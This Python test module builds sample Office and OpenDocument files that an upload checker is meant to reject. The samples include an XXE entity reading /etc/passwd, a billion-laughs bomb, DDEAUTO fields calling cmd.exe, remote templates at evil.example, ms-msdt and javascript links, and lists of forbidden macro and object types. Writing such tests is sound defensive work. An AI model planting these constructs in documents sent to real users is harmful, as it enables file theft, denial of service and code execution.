from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator, Mapping

import openpyxl

from portal.base.files.checks.heads import COMPOUND
from portal.base.tests.file_corpus.sample import Sample

_MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
_OFFICE = "application/vnd.openxmlformats-officedocument"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>'
)
_FILE_ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
EICAR_LIKE = "HARMLESS-TEST-SIGNATURE-OF-THE-PORTAL"
"""What the simulated scanner finds. No real signature, so that no real scanner removes the tests."""


def packed(parts: Mapping[str, str | bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", kind) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return output.getvalue()


def office(
    extension: str, more: Mapping[str, str | bytes] | None = None, types: str = "", text: str = "Xin chào"
) -> bytes:
    part, kind = _MAIN[extension]
    content_types = (
        f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{part}" ContentType="{_OFFICE}.{kind}.main+xml"/>{types}</Types>'
    )
    body = f'<w:document xmlns:w="w"><w:p><w:t>{text}</w:t></w:p></w:document>'
    parts = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": relations(("officeDocument", part)),
        part: body,
    }
    return packed({**parts, **(more or {})})


def relations(*rows: tuple[str, str], mode: str = "", space: str = _RELATIONS) -> str:
    made = "".join(
        f'<Relationship Id="r" Type="{space}/{kind}" Target="{target}"{mode}/>' for kind, target in rows
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{made}</Relationships>'


def related(extension: str, kind: str, target: str, content: bytes = b"x", **more: str) -> bytes:
    """An office file whose main part has a relationship of this kind to a part of this name."""
    folder, _, main = _MAIN[extension][0].partition("/")
    parts = {f"{folder}/_rels/{main}.rels": relations((kind, target), **more), f"{folder}/{target}": content}
    return office(extension, parts)


def _declared(extension: str, kind: str) -> bytes:
    """An office file with a picture whose content type says that it is something else."""
    override = f'<Override PartName="/x/MEDIA/image1.png" ContentType="{kind}"/>'
    return office(extension, {"X/media/Image1.png": b"x"}, types=override)


def _prefixed(extension: str, kind: str) -> bytes:
    """A relationship whose XML has a prefix, in a part whose name is in upper case."""
    made = (
        relations((kind, "a.png")).replace("<Relationship", "<p:Relationship").replace("xmlns=", "xmlns:p=")
    )
    folder, _, main = _MAIN[extension][0].partition("/")
    made = made.replace("</Relationships", "</p:Relationships")
    return office(extension, {f"{folder.upper()}/_RELS/{main.upper()}.RELS": made})


def _renamed(content: bytes, names: Mapping[str, str]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return packed({names.get(name, name): archive.read(name) for name in archive.namelist()})


STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
FORBIDDEN_RELATIONS = {
    "vbaProject": "macros",
    "wordVbaData": "macros",
    "xlMacrosheet": "macros",
    "dialogsheet": "macros",
    "oleObject": "objects",
    "aFChunk": "objects",
    "control": "objects",
    "activeXControlBinary": "objects",
    "package": "objects",
    "externalLink": "external",
    "connections": "external",
    "queryTable": "external",
}
FORBIDDEN_TYPES = {
    "application/vnd.ms-office.VBAProject": "macros",
    "application/vnd.ms-word.vbaData+xml": "macros",
    "application/vnd.ms-excel.macrosheet+xml": "macros",
    "application/vnd.ms-word.document.macroEnabled.main+xml": "macros",
    f"{_OFFICE}.oleObject": "objects",
    f"{_OFFICE}.spreadsheetml.connections+xml; charset=utf-8": "external",
    "application/vnd.ms-office.activeX+xml": "objects",
    f"{_OFFICE}.spreadsheetml.externalLink+xml": "external",
    f"{_OFFICE}.spreadsheetml.connections+xml": "external",
    f"{_OFFICE}.spreadsheetml.queryTable+xml": "external",
}


def _office_parts() -> Iterator[Sample]:
    """What a part is, however it is named."""
    for kind, reason in FORBIDDEN_RELATIONS.items():
        for title, space in (("transitional", _RELATIONS), ("strict", STRICT), ("Microsoft", MICROSOFT)):
            yield Sample(
                f"docx: {title} relationship {kind}",
                "a.docx",
                lambda kind=kind, space=space: related("docx", kind, "media/image1.png", space=space),
                reason,
            )
        yield Sample(
            f"pptx: prefixed relationship {kind}", "a.pptx", lambda kind=kind: _prefixed("pptx", kind), reason
        )
    for kind, reason in FORBIDDEN_TYPES.items():
        yield Sample(f"xlsx: type {kind}", "a.xlsx", lambda kind=kind: _declared("xlsx", kind), reason)
    sheet = '<Override PartName="/word/media/image1.png" ContentType="{}"/>'.format(
        f"{_OFFICE}.spreadsheetml.sheet"
    )
    yield Sample(
        "docx: table of a chart named as a picture",
        "a.docx",
        lambda: office("docx", {"word/media/image1.png": office("xlsx")}, types=sheet),
    )
    yield Sample(
        "docx: macros in a table of a chart named as a picture",
        "a.docx",
        lambda: office(
            "docx", {"word/media/image1.png": related("xlsx", "vbaProject", "a.bin")}, types=sheet
        ),
        "macros",
    )
    yield Sample(
        "docx: names in upper case",
        "a.docx",
        lambda: _renamed(
            office("docx"), {"[Content_Types].xml": "[CONTENT_TYPES].XML", "_rels/.rels": "_RELS/.RELS"}
        ),
    )
    yield Sample(
        "docx: names that differ in their case",
        "a.docx",
        lambda: office("docx", {"Word/Document.xml": "<a/>"}),
        "damaged",
    )
    yield Sample(
        "docx: a picture named like macros",
        "a.docx",
        lambda: office("docx", {"word/media/vbaProject.bin": b"x"}),
        "macros",
    )
    yield Sample(
        "docx: macros that are neither declared nor a compound file",
        "a.docx",
        lambda: office("docx", {"word/vbaProject.bin": b"x"}),
        "macros",
    )
    yield Sample(
        "docx: template from elsewhere without a mode",
        "a.docx",
        lambda: office(
            "docx", {"word/_rels/a.xml.rels": relations(("attachedTemplate", "https://evil.example/a.dotm"))}
        ),
        "external",
    )
    yield Sample(
        "docx: strict template of a server",
        "a.docx",
        lambda: office(
            "docx",
            {
                "word/_rels/a.xml.rels": relations(
                    ("attachedTemplate", "\\\\server\\a.dotm"), mode=' TargetMode="External"', space=STRICT
                )
            },
        ),
        "external",
    )
    fields = '<Override PartName="/glossary/a.xml" ContentType="{}"/>'.format(
        f"{_OFFICE}.wordprocessingml.document.glossary+xml"
    )
    dde = _field(" DDEAUTO c:\\\\cmd.exe ")["word/document.xml"].replace("w:", "x:").replace(":w=", ":x=")
    yield Sample(
        "docx: DDE in a part of another name",
        "a.docx",
        lambda: office("docx", {"glossary/a.xml": dde}, types=fields),
        "external",
    )
    action = '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkMouseOver action="ppaction://program"/></p:sld>'
    yield Sample(
        "pptx: starts a program when pointed at",
        "a.pptx",
        lambda: office("pptx", {"ppt/presentation.xml": action}),
        "external",
    )


def _outside(kind: str, target: str) -> dict[str, str]:
    return {"word/_rels/document.xml.rels": relations((kind, target), mode=' TargetMode="External"')}


def real_sheet() -> bytes:
    book, output = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["Mã", "Tên"])
    book.save(output)
    return output.getvalue()


def _field(*runs: str) -> dict[str, str]:
    cut = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return {"word/document.xml": f'<w:document xmlns:w="w"><w:p>{cut}</w:p></w:document>'}


def document(
    more: Mapping[str, str | bytes] | None = None, content: str = "", manifest: str = "", kind: str = "text"
) -> bytes:
    names = 'xmlns:draw="d" xmlns:xlink="x" xmlns:text="t" xmlns:script="s" xmlns:office="o"'
    parts = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}",
        "content.xml": f"<office:document-content {names}>{content}</office:document-content>",
        "META-INF/manifest.xml": f'<manifest:manifest xmlns:manifest="m">{manifest}</manifest:manifest>',
    }
    return packed({**parts, **(more or {})})


def encrypted_zip(content: bytes) -> bytes:
    """Set the flag of encryption of each entry: enough for every reader to ask for a password."""
    made = bytearray(content)
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = made.find(signature)
        while start >= 0:
            made[start + place] |= 1
            start = made.find(signature, start + 4)
    return bytes(made)


def samples() -> Iterator[Sample]:
    for extension in _MAIN:
        macro = '<Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/>'
        wrong = "xlsx" if extension == "docx" else "docx"
        yield Sample(f"{extension}: good", f"a.{extension}", lambda e=extension: office(e))
        yield Sample(
            f"{extension}: with macros",
            f"a.{extension}",
            lambda e=extension: related(e, "vbaProject", "vbaProject.bin"),
            "macros",
        )
        yield Sample(
            f"{extension}: declares macros",
            f"a.{extension}",
            lambda e=extension, m=macro: office(e, types=m),
            "macros",
        )
        yield Sample(f"{extension}: is a {wrong}", f"a.{extension}", lambda w=wrong: office(w), "content")
        yield Sample(
            f"{extension}: password",
            f"a.{extension}",
            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
            "encrypted_office",
        )
        yield Sample(
            f"{extension}: encrypted parts",
            f"a.{extension}",
            lambda e=extension: encrypted_zip(office(e)),
            "encrypted",
        )
        yield Sample(
            f"{extension}: object of another program",
            f"a.{extension}",
            lambda e=extension: related(e, "oleObject", "embeddings/oleObject1.bin"),
            "objects",
        )
        yield Sample(
            f"{extension}: ActiveX",
            f"a.{extension}",
            lambda e=extension: related(e, "control", "activeX/activeX1.xml"),
            "objects",
        )
        yield Sample(
            f"{extension}: entity of a file",
            f"a.{extension}",
            lambda e=extension: office(e, {"docProps/app.xml": _FILE_ENTITY}),
            "external",
        )
        yield Sample(
            f"{extension}: laughs",
            f"a.{extension}",
            lambda e=extension: office(e, {"docProps/core.xml": _LAUGHS}),
            "external",
        )
        yield Sample(
            f"{extension}: truncated", f"a.{extension}", lambda e=extension: office(e)[:-60], "damaged"
        )
        yield Sample(f"{extension}: an empty archive", f"a.{extension}", lambda: packed({}), "empty")
        yield Sample(f"{extension}: any archive", f"a.{extension}", lambda: packed({"a.txt": "a"}), "content")
    yield Sample(
        "docx: with a chart's table",
        "a.docx",
        lambda: related("docx", "package", "embeddings/table.xlsx", office("xlsx")),
    )
    yield Sample(
        "docx: with a link",
        "a.docx",
        lambda: office("docx", _outside("hyperlink", "https://quangngai.gov.vn/")),
    )
    yield Sample("docx: with a page number", "a.docx", lambda: office("docx", _field(" PAGE ")))
    yield Sample("docx: with a picture", "a.docx", lambda: office("docx", {"word/media/a.png": b"\x89PNG"}))
    yield Sample("xlsx: of a program", "a.xlsx", real_sheet)
    yield Sample(
        "docx: macros in a chart's table",
        "a.docx",
        lambda: related("docx", "package", "t.xlsx", related("xlsx", "vbaProject", "vbaProject.bin")),
        "macros",
    )
    yield Sample(
        "docx: file of another program inside",
        "a.docx",
        lambda: related("docx", "package", "embeddings/a.exe", b"MZ"),
        "objects",
    )
    yield Sample(
        "docx: template from elsewhere",
        "a.docx",
        lambda: office("docx", _outside("attachedTemplate", "https://evil.example/a.dotm")),
        "external",
    )
    yield Sample(
        "docx: picture from elsewhere",
        "a.docx",
        lambda: office("docx", _outside("image", "https://evil.example/a.png")),
        "external",
    )
    yield Sample(
        "docx: frame from elsewhere",
        "a.docx",
        lambda: office("docx", _outside("frame", "file://server/a")),
        "external",
    )
    yield Sample(
        "docx: link to a script",
        "a.docx",
        lambda: office("docx", _outside("hyperlink", "javascript:alert(1)")),
        "external",
    )
    yield Sample(
        "docx: link to a protocol",
        "a.docx",
        lambda: office("docx", _outside("hyperlink", "ms-msdt:/id")),
        "external",
    )
    yield Sample(
        "docx: object from elsewhere",
        "a.docx",
        lambda: office("docx", _outside("oleObject", "https://evil.example/a")),
        "objects",
    )
    yield Sample(
        "docx: a web page inside",
        "a.docx",
        lambda: office("docx", {"word/_rels/document.xml.rels": relations(("aFChunk", "a.mht"))}),
        "objects",
    )
    yield Sample("docx: DDE", "a.docx", lambda: office("docx", _field(" DDEAUTO c:\\\\cmd.exe ")), "external")
    yield Sample(
        "docx: DDE cut into runs",
        "a.docx",
        lambda: office("docx", _field(" DD", "EAU", "TO cmd ")),
        "external",
    )
    for instruction in (
        'INCLUDEPICTURE "http://a.example/a.png" \\d',
        "INCLUDETEXT //host/a.docx",
        "link Excel.Sheet c:/a",
    ):
        yield Sample(
            f"docx: {instruction.partition(' ')[0]}",
            "a.docx",
            lambda i=instruction: office("docx", _field(f" {i} ")),
            "external",
        )
    yield Sample(
        "docx: a word that is also a field",
        "a.docx",
        lambda: office("docx", _field(' HYPERLINK "https://a.example/link include" ')),
    )
    yield Sample(
        "docx: macros to which nothing leads",
        "a.docx",
        lambda: office("docx", {"word/vbaProject.bin": COMPOUND}),
        "macros",
    )
    yield Sample(
        "docx: an object named like a picture",
        "a.docx",
        lambda: office("docx", {"word/media/a.png": COMPOUND}),
        "objects",
    )
    yield Sample(
        "xlsx: a program to which nothing leads",
        "a.xlsx",
        lambda: office("xlsx", {"xl/a.bin": b"MZ\x90"}),
        "program",
    )
    yield Sample(
        "docx: broken XML", "a.docx", lambda: office("docx", {"word/document.xml": "<a><b></a>"}), "damaged"
    )
    yield Sample(
        "docx: UTF-16 entity",
        "a.docx",
        lambda: office(
            "docx",
            {"word/styles.xml": ('<?xml version="1.0" encoding="utf-16"?>' + _FILE_ENTITY).encode("utf-16")},
        ),
        "external",
    )
    yield Sample(
        "xlsx: other workbook",
        "a.xlsx",
        lambda: related("xlsx", "externalLink", "externalLinks/externalLink1.xml", b"<a/>"),
        "external",
    )
    yield Sample(
        "xlsx: query of a web page",
        "a.xlsx",
        lambda: related("xlsx", "connections", "connections.xml", b"<a/>"),
        "external",
    )
    yield Sample(
        "xlsx: old macros",
        "a.xlsx",
        lambda: related("xlsx", "xlMacrosheet", "macrosheets/sheet1.xml", b"<a/>"),
        "macros",
    )
    yield Sample(
        "xlsx: media bomb", "a.xlsx", lambda: office("xlsx", {"xl/media/a.bmp": bytes(120_000_000)}), "bomb"
    )
    yield from _office_parts()
    yield Sample("odt: good", "a.odt", document)
    yield Sample("ods: good", "a.ods", lambda: document(kind="spreadsheet"))
    yield Sample(
        "odt: with a link", "a.odt", lambda: document(content='<text:a xlink:href="https://x.vn">x</text:a>')
    )
    yield Sample("odt: is an ods", "a.odt", lambda: document(kind="spreadsheet"), "content")
    yield Sample("odt: macros", "a.odt", lambda: document({"Basic/Standard/Module1.xml": "<a/>"}), "macros")
    yield Sample(
        "odt: event",
        "a.odt",
        lambda: document(content='<script:event-listener script:event-name="on"/>'),
        "macros",
    )
    yield Sample(
        "odt: picture from elsewhere",
        "a.odt",
        lambda: document(content='<draw:image xlink:href="https://x.vn/a.png"/>'),
        "external",
    )
    yield Sample(
        "odt: event with another prefix",
        "a.odt",
        lambda: document(content='<z:event-listener xmlns:z="s" z:event-name="on"/>'),
        "macros",
    )
    yield Sample(
        "odt: picture from elsewhere in a document inside",
        "a.odt",
        lambda: document(
            {"Object 1/content.xml": '<d:image xmlns:d="d" xmlns:l="x" l:href="//evil.example/a.png"/>'}
        ),
        "external",
    )
    yield Sample("odt: object", "a.odt", lambda: document(content="<draw:object-ole/>"), "objects")
    yield Sample(
        "odt: password", "a.odt", lambda: document(manifest="<manifest:encryption-data/>"), "encrypted"
    )
    yield Sample("odt: laughs", "a.odt", lambda: document({"content.xml": _LAUGHS}), "external")
